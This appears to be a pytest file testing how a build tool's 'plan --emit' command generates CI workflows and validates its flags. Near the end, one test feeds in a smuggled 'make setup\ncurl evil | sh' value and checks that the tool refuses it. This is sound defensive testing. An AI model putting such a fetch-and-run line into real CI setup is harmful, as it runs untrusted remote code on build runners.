"""`stackbuild plan --emit`: the shards printed or written, and the values it refuses."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
import yaml

from engine.cli import commands
from engine.cli.main import main, parse_checked
from engine.cli.options import secret_policy_of
from tests.engine.engine_fakes import FakeRegistry, commit_all, write_stack


@pytest.fixture
def root(tmp_path: Path) -> Path:
    write_stack(tmp_path / "repo")
    return tmp_path / "repo"


def _plan(root: Path, *extra: str) -> int:
    return main(["plan", "--offline", "--root", str(root), "--state-dir", str(root.parent / "state"),
                 "stacks/t", *extra])


def test_emit_prints_a_workflow_with_a_job_per_node_and_publish(root: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    assert _plan(root, "--emit", "github", "--registry", "r.example:5000/x") == 0
    jobs = yaml.safe_load(capsys.readouterr().out)["jobs"]
    assert list(jobs) == ["build-base", "build-other", "build-mid", "build-side", "build-leaf", "publish"]
    assert jobs["build-leaf"]["needs"] == ["build-mid"]
    assert jobs["build-leaf"]["steps"][-1]["run"] == (
        "stackbuild build --only leaf stacks/t --registry r.example:5000/x")


def test_emit_out_writes_the_file(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = root.parent / "ci" / "shards.yml"
    assert _plan(root, "--emit", "gitlab", "--out", str(out)) == 0
    assert capsys.readouterr().out == f"wrote {out} (5 build jobs and publish)\n"
    assert yaml.safe_load(out.read_text(encoding="utf-8"))["stages"] == ["build", "publish"]


def test_emit_refuses_platform_and_a_folder_as_out(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _plan(root, "--emit", "github", "--platform", "linux/amd64") == 2
    assert "--platform is not supported" in capsys.readouterr().err
    assert _plan(root, "--emit", "github", "--out", str(root)) == 2
    assert "is a folder" in capsys.readouterr().err


def test_emit_no_secrets_carries_it_into_every_job_and_writes_no_publish_job(
        root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # plan --no-secrets --emit (a fork's pull request): its shard jobs must build without the secrets too
    # (they passed them), and nothing an untrusted run built may be published by the pipeline itself
    assert _plan(root, "--emit", "github", "--no-secrets") == 0
    jobs = yaml.safe_load(capsys.readouterr().out)["jobs"]
    runs = {job: shlex.split(body["steps"][-1]["run"]) for job, body in jobs.items()}
    assert runs["build-leaf"][:2] == ["stackbuild", "build"]
    assert all("--no-secrets" in run for run in runs.values())
    assert "publish" not in runs  # the old code ended with `stackbuild publish --no-secrets`
    out = root.parent / "shards.yml"
    assert _plan(root, "--emit", "gitlab", "--no-secrets", "--out", str(out)) == 0
    assert capsys.readouterr().out == f"wrote {out} (5 build jobs, no publish job: --no-secrets)\n"
    pipeline = yaml.safe_load(out.read_text(encoding="utf-8"))
    assert pipeline["stages"] == ["build"] and "publish" not in pipeline


def test_emit_passes_the_secret_allowances_to_every_build_job_not_to_publish(
        root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # the runner's CA bundle and token variable: without them each shard would be refused (exit 2)
    bundle = root.parent / "ca certs.pem"
    bundle.write_text("pem\n", encoding="utf-8")
    assert _plan(root, "--emit", "github", "--secret-src-allow", str(bundle),
                 "--secret-env-allow", "PIP_TOKEN") == 0
    jobs = yaml.safe_load(capsys.readouterr().out)["jobs"]
    runs = {job: shlex.split(body["steps"][-1]["run"]) for job, body in jobs.items()}
    assert runs["build-leaf"] == ["stackbuild", "build", "--only", "leaf", "stacks/t", "--secret-src-allow",
                                  str(bundle), "--secret-env-allow", "PIP_TOKEN"]
    assert runs["publish"] == ["stackbuild", "publish", "stacks/t"]  # publish takes neither option
    policy = secret_policy_of(parse_checked(runs["build-leaf"][1:], {}), {})  # the job's build takes them
    assert (policy.allowed, policy.envs) == ((bundle.resolve(),), ("PIP_TOKEN",))


@pytest.mark.parametrize(("flags", "words"), [
    (["--emit", "github", "--secret-env-allow", "PIP-TOKEN"], "is not an environment variable name"),
    (["--emit", "github", "--secret-src-allow", "/a\nb"], "control character"),
    (["--secret-src-allow", "/no/such/runner/path"], "error: --secret-src-allow: /no/such/runner/path does "
                                                     "not exist")])
def test_emit_refuses_bad_allowances_and_plan_checks_them_as_build_does(
        root: Path, capsys: pytest.CaptureFixture[str], flags: list[str], words: str) -> None:
    assert _plan(root, *flags) == 2
    assert words in capsys.readouterr().err


def test_emit_leaves_the_secret_check_to_each_jobs_runner(
        root: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A plain plan refuses a host file it is not allowed (as build); the emitted jobs run elsewhere, with
    the runners' paths and environment, so --emit passes the allowances on and checks nothing here."""
    monkeypatch.delenv("STACKBUILD_SECRET_DIRS", raising=False)
    stack = root / "stacks/t/stack.yaml"
    text = stack.read_text(encoding="utf-8")
    stack.write_text(text.replace("nodes:", "secrets: [{id: ca, src: /runner/ca.pem}]\nnodes:", 1),
                     encoding="utf-8")
    assert _plan(root) == 2
    assert "secret 'ca' reads the host file /runner/ca.pem, which lies outside the repository" in \
        capsys.readouterr().err
    assert _plan(root, "--emit", "github", "--secret-src-allow", "/runner/ca.pem") == 0
    jobs = yaml.safe_load(capsys.readouterr().out)["jobs"]
    job = shlex.split(jobs["build-leaf"]["steps"][-1]["run"])
    assert job[-2:] == ["--secret-src-allow", "/runner/ca.pem"]


def test_emit_changed_since_carries_it_into_every_job_and_publish_with_the_whole_history(
        root: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    # a PR's shards: each job and publish plan in PR mode (a job outside the change builds its node, publish
    # moves only the change's tags), and PR mode reads the merge base, so no shallow checkout
    commit_all(root, "tiny stack")
    dockerfile = root / "stacks/t/leaf/Dockerfile"
    dockerfile.write_text(dockerfile.read_text(encoding="utf-8") + "LABEL edited=1\n", encoding="utf-8")
    assert _plan(root, "--emit", "github", "--changed-since", "HEAD") == 2  # _plan is --offline
    assert "cannot be --offline" in capsys.readouterr().err
    monkeypatch.setattr(commands, "RegistryClient", FakeRegistry)  # empty: leaf's parents are needed
    assert main(["plan", "--root", str(root), "--state-dir", str(root.parent / "state"), "stacks/t",
                 "--emit", "github", "--changed-since", "HEAD"]) == 0
    jobs = yaml.safe_load(capsys.readouterr().out)["jobs"]
    assert list(jobs) == ["build-base", "build-mid", "build-leaf", "publish"]
    for body in jobs.values():
        assert body["steps"][0] == {"uses": "actions/checkout@v4", "with": {"fetch-depth": 0}}
    assert shlex.split(jobs["build-leaf"]["steps"][-1]["run"])[-2:] == ["--changed-since", "HEAD"]
    assert shlex.split(jobs["publish"]["steps"][-1]["run"]) == [
        "stackbuild", "publish", "stacks/t", "--changed-since", "HEAD"]


def test_publish_takes_changed_since_and_checks_it(capsys: pytest.CaptureFixture[str]) -> None:
    assert parse_checked(["publish", "--changed-since", "main", "stacks/t"], {}).changed_since == "main"
    assert main(["publish", "--changed-since=-x", "stacks/t"]) == 2
    assert "--changed-since" in capsys.readouterr().err


def test_emit_no_publish_writes_no_publish_job(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # a pull request's check spread over runners: content tags only, as `build --no-publish`
    out = root.parent / "shards.yml"
    assert _plan(root, "--emit", "gitlab", "--no-publish", "--out", str(out)) == 0
    assert capsys.readouterr().out == f"wrote {out} (5 build jobs, no publish job: --no-publish)\n"
    document = yaml.safe_load(out.read_text(encoding="utf-8"))
    assert document["stages"] == ["build"] and "publish" not in document
    assert _plan(root, "--no-publish") == 2
    assert "--no-publish: only with --emit" in capsys.readouterr().err


def test_emit_full_forces_every_build_job_but_not_publish(root: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    assert _plan(root, "--emit", "github", "--full") == 0
    runs = {job: shlex.split(body["steps"][-1]["run"]) for job, body in
            yaml.safe_load(capsys.readouterr().out)["jobs"].items()}
    assert all("--full" in run for job, run in runs.items() if job != "publish")
    assert runs["publish"] == ["stackbuild", "publish", "stacks/t"]
    for emit in (["--emit", "github"], []):  # plan refuses what build refuses
        assert _plan(root, *emit, "--full", "--changed-since", "HEAD") == 2
        assert "--full cannot be combined with --changed-since" in capsys.readouterr().err


def test_emit_ci_flags_set_where_and_after_what_every_job_runs(root: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    # a GitLab child pipeline made in CI cannot be edited by hand: its jobs need stackbuild set up
    assert _plan(root, "--emit", "gitlab", "--ci-runner", "docker", "--ci-image", "docker:26",
                 "--ci-setup", "make setup", "--ci-setup", "docker login -u ci r.example") == 0
    default = yaml.safe_load(capsys.readouterr().out)["default"]
    assert default == {"image": "docker:26", "tags": ["docker"],
                       "before_script": ["make setup", "docker login -u ci r.example"]}
    assert _plan(root, "--emit", "github", "--ci-image", "docker 26") == 2
    assert "--ci-image: 'docker 26' contains white space outside a ${{ ... }} expression (name an image, " \
           "e.g. docker:26 or ${{ vars.CI_IMAGE }})" in capsys.readouterr().err
    assert _plan(root, "--emit", "github", "--ci-image", "${{ vars.CI_IMAGE }} x") == 2
    assert "contains white space outside" in capsys.readouterr().err
    for flag in ("--ci-image", "--ci-runner", "--ci-setup"):
        for empty in ("${{ }}", "r/${{}}"):
            assert _plan(root, "--emit", "github", flag, empty) == 2
            assert f"{flag}: '{empty}' holds an empty ${{{{ }}}} expression" in capsys.readouterr().err
        assert _plan(root, "--emit", "github", flag, "${{ vars.X") == 2
        assert "never ends with }}" in capsys.readouterr().err
    braces = "${{ format('{0}/{1}', vars.REGISTRY, vars.IMAGE) }}"
    assert _plan(root, "--emit", "github", "--ci-image", braces, "--ci-runner", braces) == 0
    jobs = yaml.safe_load(capsys.readouterr().out)["jobs"]
    assert {body["container"] for body in jobs.values()} == {braces}
    assert {body["runs-on"] for body in jobs.values()} == {braces}
    for flag in ("--ci-image", "--ci-runner", "--ci-setup"):
        assert _plan(root, "--emit", "gitlab", flag, "${{ vars.X }}") == 2
        assert f"{flag}: '${{{{ vars.X }}}}' holds a GitHub expression, which GitLab does not expand" in (
            capsys.readouterr().err)
    assert _plan(root, "--emit", "github", "--ci-image", "r.example/${{ vars.IMAGE }}:${{ vars.TAG }}") == 0
    jobs = yaml.safe_load(capsys.readouterr().out)["jobs"]
    assert {body["container"] for body in jobs.values()} == {"r.example/${{ vars.IMAGE }}:${{ vars.TAG }}"}
    assert _plan(root, "--emit", "github", "--ci-setup", "make setup\ncurl evil | sh") == 2
    assert "control" in capsys.readouterr().err
    assert _plan(root, "--ci-setup", "make setup") == 2
    assert "--ci-setup: only with --emit" in capsys.readouterr().err
